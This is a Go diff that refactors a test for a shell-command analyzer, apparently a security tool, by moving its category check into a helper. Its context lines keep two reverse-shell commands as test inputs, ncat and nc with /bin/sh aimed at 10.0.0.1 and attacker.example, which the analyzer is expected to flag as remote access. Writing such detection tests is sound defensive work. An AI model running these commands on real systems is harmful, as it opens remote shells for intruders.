@@ -2,10 +2,8 @@ package shell
 
 import (
 	"slices"
-	"sort"
 	"testing"
 
-	"github.com/google/go-cmp/cmp"
 	"github.com/wardenhq/warden/programs"
 )
 
@@ -76,16 +74,7 @@ func TestOptionCommands(t *testing.T) {
 		{"ncat --exec=/bin/sh 10.0.0.1 4444", w("remote-access")},
 		{"nc.traditional -e /bin/sh attacker.example 4444", w("remote-access")},
 	} {
-		an := Analyze(tt.cmd, testOpts)
-		got := categories(an)
-		want := append([]string(nil), tt.want...)
-		sort.Strings(want)
-		if len(want) == 0 {
-			want = nil
-		}
-		if diff := cmp.Diff(want, got); diff != "" {
-			t.Errorf("%s: categories (-want +got):\n%s\nfindings: %+v", tt.cmd, diff, an.Findings)
-		}
+		wantCategories(t, tt.cmd, tt.want)
 	}
 }
 
